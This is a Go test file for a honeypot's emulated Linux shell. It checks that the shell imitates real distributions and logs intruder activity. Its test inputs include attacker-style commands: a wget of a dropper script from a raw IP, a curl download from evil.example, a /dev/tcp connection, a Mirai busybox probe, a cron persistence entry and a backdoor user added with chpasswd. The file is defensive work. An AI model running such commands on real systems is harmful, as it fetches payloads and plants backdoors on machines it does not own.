package shell

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/decnet/decnet"
	"github.com/decnet/decnet/services"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

var testTime = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

// recorder keeps the events of a test.
type recorder struct {
	mu     sync.Mutex
	events []decnet.Event
}

func (r *recorder) Emit(e decnet.Event) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, e)
}

func (r *recorder) of(typ string) []decnet.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []decnet.Event
	for _, e := range r.events {
		if e.Type == typ {
			out = append(out, e)
		}
	}
	return out
}

// addressed is one end of a pipe with the addresses of a TCP connection.
type addressed struct {
	net.Conn
	from, to string
}

func (a addressed) RemoteAddr() net.Addr { return tcpAddr(a.from) }
func (a addressed) LocalAddr() net.Addr  { return tcpAddr(a.to) }

func tcpAddr(s string) net.Addr {
	a, err := net.ResolveTCPAddr("tcp", s)
	if err != nil {
		panic(err)
	}
	return a
}

type box struct {
	t      testing.TB
	m      *Machine
	events *recorder
	env    services.Env
	id     services.Identity
}

// faults fails the test for every fault that the shell reports about itself.
type faults struct{ t testing.TB }

func (f faults) Write(p []byte) (int, error) {
	f.t.Errorf("%s", p)
	return len(p), nil
}

func newBox(t testing.TB, distro string, opt Options) *box {
	t.Helper()
	opt.Log = slog.New(slog.NewTextHandler(faults{t}, nil))
	b := &box{t: t, events: &recorder{}}
	b.id = services.Identity{Hostname: "web-01", Domain: "corp.example", Distro: distro, Seed: [32]byte{7}}
	b.m = NewMachine(b.id, func() time.Time { return testTime }, opt)
	b.env = services.Env{Decky: "web-01", Identity: b.id, Sink: b.events, Now: func() time.Time { return testTime }}.Complete()
	return b
}

func (b *box) login(user, from string) *Shell {
	b.t.Helper()
	client, server := net.Pipe()
	b.t.Cleanup(func() { _, _ = client.Close(), server.Close() })
	conn := services.NewConn(addressed{server, from, "10.0.0.5:22"}, services.Limits{})
	sh := b.m.Login(b.env.NewSession("ssh", conn), user)
	b.t.Cleanup(sh.Close)
	return sh
}

// run runs a command and returns what it printed, with standard error after it.
func (b *box) run(sh *Shell, command, input string) (out, errs string, status int) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.t.Context(), 20*time.Second)
	defer cancel()
	var o, e bytes.Buffer
	status = sh.Exec(ctx, command, Stdio{In: strings.NewReader(input), Out: &o, Err: &e})
	return o.String(), e.String(), status
}

func TestExec(t *testing.T) {
	b := newBox(t, "debian", Options{})
	sh := b.login("root", "192.0.2.7:4711")
	for _, c := range []struct {
		name, command, out, errs string
		status                   int
	}{
		{"first", "id; whoami; pwd; hostname", "uid=0(root) gid=0(root) groups=0(root)\nroot\n/root\nweb-01\n", "", 0},
		{"unknown", "foo", "", "bash: line 1: foo: command not found\n", 127},
		{"no such file", "./nope", "", "bash: line 1: ./nope: No such file or directory\n", 127},
		{"directory", "/etc", "", "bash: line 1: /etc: Is a directory\n", 126},
		{"not executable", "/etc/passwd", "", "bash: line 1: /etc/passwd: Permission denied\n", 126},
		{"pipe", "cat /etc/passwd | grep root | cut -d: -f1,7", "root:/bin/bash\n", "", 0},
		{"and or", "true && echo a || echo b; false && echo c || echo d", "a\nd\n", "", 0},
		{"redirect", "echo one > /tmp/a; echo two >> /tmp/a; cat < /tmp/a; wc -l /tmp/a", "one\ntwo\n2 /tmp/a\n", "", 0},
		{"both", "ls /nope > /tmp/b 2>&1; cat /tmp/b", "ls: cannot access '/nope': No such file or directory\n", "", 0},
		{"status", "false; echo $?; (exit 7); echo $?; exit 3", "1\n7\n", "", 3},
		{"function", "f() { local x=$1; echo in $x; return 4; }; x=out; f a; echo $? $x", "in a\n4 out\n", "", 0},
		{"here document", "cat <<E\n$((1+2)) `echo q`\nE\n", "3 q\n", "", 0},
		{"mirai", "/bin/busybox ECCHI", "", "ECCHI: applet not found\n", 127},
		{"echo loader", `echo -ne '\x7f\x45\x4c\x46' > /tmp/.d; cat /tmp/.d | od -An -tx1`, " 7f 45 4c 46\n", "", 0},
		{"syntax", "if", "", "bash: -c: line 2: syntax error: unexpected end of file\n", 2},
		{"bad token", "echo (x", "", "bash: -c: line 1: syntax error near unexpected token `x'\nbash: -c: line 1: `echo (x'\n", 2},
		{"dash", "sh -c 'foo; cd /nope'", "", "sh: 1: foo: not found\nsh: 1: cd: can't cd to /nope\n", 2},
		{"array", "a=(x y z); echo ${a[1]} ${#a[@]} ${a[@]:1}", "y 3 y z\n", "", 0},
		{"case", "case abc in a*) echo y;; *) echo n;; esac", "y\n", "", 0},
		{"while read", "printf '1 2\\n3 4\\n' | while read a b; do echo $b-$a; done", "2-1\n4-3\n", "", 0},
		{"process substitution", "cat <(echo one) <(echo two); bash <(echo 'echo three')", "one\ntwo\nthree\n", "", 0},
		{"trap", "trap 'echo bye' EXIT; echo hi", "hi\nbye\n", "", 0},
		{"set -e", "set -e; false; echo no", "", "", 1},
		{"division", "echo $((1/0)); echo no", "", "bash: line 1: 1/0: division by 0 (error token is \"0\")\n", 1},
		{"unset", "set -u; echo $nope", "", "bash: line 1: nope: unbound variable\n", 127},
		{"background", "echo a & wait; echo b", "a\nb\n", "", 0},
		{"awk", "awk -F: '$3<2{s+=$3; print $1} END{print s}' /etc/passwd", "root\ndaemon\n1\n", "", 0},
		{"sed", "sed -n -e 's/^root:\\(.\\):.*/\\1-&/p' /etc/passwd | head -c 6", "x-root", "", 0},
		{"xargs", "echo a b c | xargs -n 1 echo -", "- a\n- b\n- c\n", "", 0},
		{"find exec", "mkdir -p /tmp/d; touch /tmp/d/1 /tmp/d/2; find /tmp/d -type f -exec basename {} \\;", "1\n2\n", "", 0},
		{"tar", "cd /tmp; echo x > f1; tar czf t.tgz f1; rm f1; tar xzvf t.tgz; cat f1", "f1\nx\n", "", 0},
		{"base64", "echo aGVsbG8= | base64 -d; echo -n hello | base64", "helloaGVsbG8=\n", "", 0},
		{"hash", "echo -n abc | md5sum; echo -n abc | sha256sum | cut -c1-8", "900150983cd24fb0d6963f7d28e17f72  -\nba7816bf\n", "", 0},
		{"copied program", "cp /bin/uname /tmp/u; /tmp/u -s", "Linux\n", "", 0},
		{"crontab", "echo '* * * * * /tmp/x' | crontab -; crontab -l", "* * * * * /tmp/x\n", "", 0},
		{"immutable", "touch /tmp/i; chattr +i /tmp/i; rm -f /tmp/i; lsattr /tmp/i; chattr -i /tmp/i; rm /tmp/i; ls /tmp/i", "----i---------e------- /tmp/i\n", "rm: cannot remove '/tmp/i': Operation not permitted\nls: cannot access '/tmp/i': No such file or directory\n", 2},
		{"no dev tcp", "echo x > /dev/tcp/203.0.113.9/80", "", "bash: line 1: connect: Network is unreachable\nbash: line 1: /dev/tcp/203.0.113.9/80: Network is unreachable\n", 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			out, errs, status := b.run(sh, c.command, "")
			if out != c.out || errs != c.errs || status != c.status {
				t.Errorf("%s\n got %q, %q, %d\nwant %q, %q, %d", c.command, out, errs, status, c.out, c.errs, c.status)
			}
		})
	}
}

func TestDistributions(t *testing.T) {
	for distro, want := range map[string]struct{ id, unknown, shell string }{
		"debian":   {"ID=debian\n", "bash: line 1: foo: command not found\n", "/bin/bash\n"},
		"ubuntu22": {"ID=ubuntu\n", "bash: line 1: foo: command not found\n", "/bin/bash\n"},
		"ubuntu20": {"ID=ubuntu\n", "bash: foo: command not found\n", "/bin/bash\n"},
		"centos7":  {"ID=\"centos\"\n", "bash: foo: command not found\n", "/bin/bash\n"},
		"rocky9":   {"ID=\"rocky\"\n", "bash: line 1: foo: command not found\n", "/bin/bash\n"},
		"fedora":   {"ID=fedora\n", "bash: line 1: foo: command not found\n", "/bin/bash\n"},
		"alpine":   {"ID=alpine\n", "ash: foo: not found\n", "/bin/ash\n"},
		"kali":     {"ID=kali\n", "zsh:1: command not found: foo\n", "/usr/bin/zsh\n"},
		"arch":     {"ID=arch\n", "bash: line 1: foo: command not found\n", "/bin/bash\n"},
	} {
		t.Run(distro, func(t *testing.T) {
			t.Parallel()
			b := newBox(t, distro, Options{})
			sh := b.login("root", "192.0.2.7:4711")
			if out, errs, _ := b.run(sh, "grep ^ID= /etc/os-release", ""); out != want.id {
				t.Errorf("os-release: %q %q", out, errs)
			}
			if _, errs, status := b.run(sh, "foo", ""); errs != want.unknown || status != 127 {
				t.Errorf("unknown command: %q %d", errs, status)
			}
			if out, _, _ := b.run(sh, "echo $SHELL", ""); out != want.shell {
				t.Errorf("shell: %q", out)
			}
			release, _ := b.m.kernel()
			if out, _, _ := b.run(sh, "uname -r", ""); out != release+"\n" {
				t.Errorf("uname -r: %q, not %q", out, release)
			}
		})
	}
}

// What an attacker changed is there at the next log-in from the same address, and only
// there.
func TestStateIsPerAttacker(t *testing.T) {
	b := newBox(t, "debian", Options{})
	one := b.login("root", "192.0.2.7:4711")
	if _, errs, _ := b.run(one, "echo mine > /root/x; rm /root/notes.txt; useradd -m eve; echo 'eve:s3cret' | chpasswd", ""); errs != "" {
		t.Fatal(errs)
	}
	one.Close()
	again := b.login("root", "192.0.2.7:5999")
	if out, _, _ := b.run(again, "cat /root/x; ls /root/notes.txt; id eve; grep -c eve /etc/shadow", ""); out != "mine\nuid=1001(eve) gid=1001(eve) groups=1001(eve)\n1\n" {
		t.Errorf("same attacker: %q", out)
	}
	other := b.login("root", "192.0.2.8:4711")
	if out, _, _ := b.run(other, "ls /root; id eve", ""); strings.Contains(out, "x\n") || !strings.Contains(out, "notes.txt") || strings.Contains(out, "eve") {
		t.Errorf("other attacker: %q", out)
	}
	got := b.events.of("credential_change")
	if len(got) != 1 || got[0].Value("username") != "eve" || got[0].Value("password") != "s3cret" {
		t.Errorf("credential_change: %v", got)
	}
}

func TestEvents(t *testing.T) {
	b := newBox(t, "debian", Options{})
	sh := b.login("root", "192.0.2.7:4711")
	b.run(sh, "cd /tmp; wget -q http://203.0.113.9/bins.sh -O x; curl -o y http://evil.example/y; tftp; echo '#!/bin/sh\necho run' > r; echo '#!/bin/sh\necho run' > r; chmod +x r; ./r", "")
	commands := b.events.of("command")
	if len(commands) != 1 || commands[0].Value("user") != "root" || commands[0].Value("cwd") != "/root" || commands[0].Value("tty") != "no" || !strings.HasPrefix(commands[0].Value("command"), "cd /tmp; wget") {
		t.Errorf("command: %v", commands)
	}
	downloads := b.events.of("download_attempt")
	if len(downloads) != 2 || downloads[0].Value("url") != "http://203.0.113.9/bins.sh" || downloads[0].Value("tool") != "wget" || downloads[0].Value("output") != "x" || downloads[1].Value("tool") != "curl" {
		t.Errorf("download_attempt: %v", downloads)
	}
	captured := b.events.of("file_captured")
	if len(captured) != 1 || captured[0].Value("orig_path") != "/tmp/r" || captured[0].Value("size") != "19" || captured[0].Value("sha256") == "" {
		t.Errorf("file_captured: %v", captured)
	}
	ran := b.events.of("file_executed")
	if len(ran) != 1 || ran[0].Value("path") != "/tmp/r" || ran[0].Value("outcome") != "interpreted" {
		t.Errorf("file_executed: %v", ran)
	}
}

func TestUploadedBinaries(t *testing.T) {
	b := newBox(t, "debian", Options{})
	sh := b.login("root", "192.0.2.7:4711")
	elfOf := func(machine byte, order byte) string {
		h := make([]byte, 200)
		copy(h, "\x7fELF\x01\x01\x01")
		h[5] = order
		if order == 1 {
			h[18] = machine
		} else {
			h[19] = machine
		}
		return string(h)
	}
	for _, c := range []struct{ name, content, want, outcome string }{
		{"mips", elfOf(8, 2), "bash: line 1: /tmp/b: cannot execute binary file: Exec format error\n", "exec format error"},
		{"arm", elfOf(40, 1), "bash: line 1: /tmp/b: cannot execute binary file: Exec format error\n", "exec format error"},
		{"x86", elfOf(3, 1), "Segmentation fault", "segmentation fault"},
		{"junk", "\x00\x01\x02junk", "bash: line 1: /tmp/b: cannot execute binary file: Exec format error\n", "exec format error"},
	} {
		f, err := sh.Files().Open("/tmp/b", 0x241, 0o755) // write, create, truncate
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, c.content); err != nil {
			t.Fatal(err)
		}
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
		_, errs, status := b.run(sh, "chmod 777 /tmp/b; /tmp/b", "")
		if !strings.Contains(errs, c.want) || status < 126 {
			t.Errorf("%s: %q %d", c.name, errs, status)
		}
		ran := b.events.of("file_executed")
		if got := ran[len(ran)-1].Value("outcome"); got != c.outcome {
			t.Errorf("%s: outcome %q", c.name, got)
		}
	}
}

func TestOrdinaryUser(t *testing.T) {
	b := newBox(t, "debian", Options{Users: []string{"deploy"}})
	sh := b.login("deploy", "192.0.2.7:4711")
	out, errs, _ := b.run(sh, "id; cat /etc/shadow; touch /etc/x; rm /etc/passwd; cd /root; cd; pwd; touch x && ls x; sudo -n id", "")
	if want := "uid=1001(deploy) gid=1001(deploy) groups=1001(deploy)\n/home/deploy\nx\n"; out != want {
		t.Errorf("out %q", out)
	}
	for _, want := range []string{"cat: /etc/shadow: Permission denied", "touch: cannot touch '/etc/x': Permission denied", "rm: cannot remove '/etc/passwd': Permission denied", "bash: line 1: cd: /root: Permission denied", "sudo: a password is required"} {
		if !strings.Contains(errs, want) {
			t.Errorf("no %q in %q", want, errs)
		}
	}
	unknown := b.login("weird user$", "192.0.2.9:1")
	if out, _, _ := b.run(unknown, "whoami; pwd; grep -c weirduser /etc/passwd", ""); out != "weirduser\n/home/weirduser\n1\n" {
		t.Errorf("unknown user: %q", out)
	}
}

func TestScript(t *testing.T) {
	b := newBox(t, "debian", Options{})
	sh := b.login("root", "192.0.2.7:4711")
	var out, errs bytes.Buffer
	in := "echo one\nif true\nthen\n  echo two\nfi\nfoo\nread x\ninput of read\necho $x $?\nexit 5\necho never\n"
	status := sh.Script(t.Context(), Stdio{In: strings.NewReader(in), Out: &out, Err: &errs})
	if out.String() != "one\ntwo\ninput of read 0\n" || errs.String() != "-bash: line 6: foo: command not found\n" || status != 5 {
		t.Errorf("%q %q %d", out.String(), errs.String(), status)
	}
	var typed []string
	for _, e := range b.events.of("command") {
		typed = append(typed, e.Value("command"))
	}
	if want := []string{"echo one", "if true\nthen\n  echo two\nfi", "foo", "read x", "echo $x $?", "exit 5"}; fmt.Sprint(typed) != fmt.Sprint(want) {
		t.Errorf("commands %q", typed)
	}
}

// W44: two deckies share no secrets.
func TestW44_NoSharedBait(t *testing.T) {
	b := newBox(t, "debian", Options{})
	c := newBox(t, "debian", Options{})
	c.id.Seed = [32]byte{8}
	c.m = NewMachine(c.id, func() time.Time { return testTime }, Options{})
	for _, command := range []string{"cat /etc/shadow", "cat /root/notes.txt", "cat /etc/machine-id", "cat /var/www/*/.env", "ip a", "cat /root/.ssh/authorized_keys"} {
		x, _, _ := b.run(b.login("root", "192.0.2.7:1"), command, "")
		y, _, _ := c.run(c.login("root", "192.0.2.7:1"), command, "")
		if x == y || x == "" {
			t.Errorf("%s: the same on both: %q", command, x)
		}
		again := newBox(t, "debian", Options{})
		if z, _, _ := again.run(again.login("root", "192.0.2.7:1"), command, ""); z != x {
			t.Errorf("%s: changed after a restart", command)
		}
	}
}

func TestClockAgrees(t *testing.T) {
	b := newBox(t, "debian", Options{})
	sh := b.login("root", "192.0.2.7:4711")
	boot := b.id.BootTime(testTime)
	if out, _, _ := b.run(sh, "uptime -s; who -b", ""); out != boot.Format("2006-01-02 15:04:05")+"\n         system boot  "+boot.Format("2006-01-02 15:04")+"\n" {
		t.Errorf("%q", out)
	}
	if out, _, _ := b.run(sh, "cut -d. -f1 /proc/uptime", ""); out != fmt.Sprintf("%d\n", int(testTime.Sub(boot).Seconds())) {
		t.Errorf("/proc/uptime: %q", out)
	}
	if out, _, _ := b.run(sh, "grep btime /proc/stat", ""); out != fmt.Sprintf("btime %d\n", boot.Unix()) {
		t.Errorf("/proc/stat: %q", out)
	}
	if out, _, _ := b.run(sh, "date -u +%FT%T; who", ""); out != "2026-03-14T09:26:53\n" {
		t.Errorf("date: %q", out)
	}
}

func TestW17_QuotaHolds(t *testing.T) {
	b := newBox(t, "debian", Options{Quota: 1 << 20})
	sh := b.login("root", "192.0.2.7:4711")
	_, errs, status := b.run(sh, "dd if=/dev/zero of=/tmp/big bs=64k count=1000", "")
	if status != 1 || !strings.Contains(errs, "No space left on device") {
		t.Errorf("%q %d", errs, status)
	}
	if used := sh.files.size(); used > 1<<20 {
		t.Errorf("%d bytes used", used)
	}
	if _, errs, status := b.run(sh, "rm /tmp/big; echo fits > /tmp/small", ""); status != 0 {
		t.Errorf("after rm: %q", errs)
	}
	if _, errs, _ := b.run(sh, "i=0; while [ $i -lt 4000 ]; do : > /tmp/f$i || break; i=$((i+1)); done", ""); !strings.Contains(errs, "No space left on device") {
		t.Errorf("many files: %q", errs)
	}
}

func TestAttackersAreForgotten(t *testing.T) {
	b := newBox(t, "debian", Options{AttackerStates: 2})
	for i := 1; i <= 3; i++ {
		sh := b.login("root", fmt.Sprintf("192.0.2.%d:1", i))
		b.run(sh, "echo x > /root/x", "")
		sh.Close()
	}
	if n := b.m.attackers.Len(); n != 2 {
		t.Errorf("%d attackers", n)
	}
	if out, _, _ := b.run(b.login("root", "192.0.2.1:1"), "ls /root/x", ""); out != "" {
		t.Errorf("the oldest is still there: %q", out)
	}
}
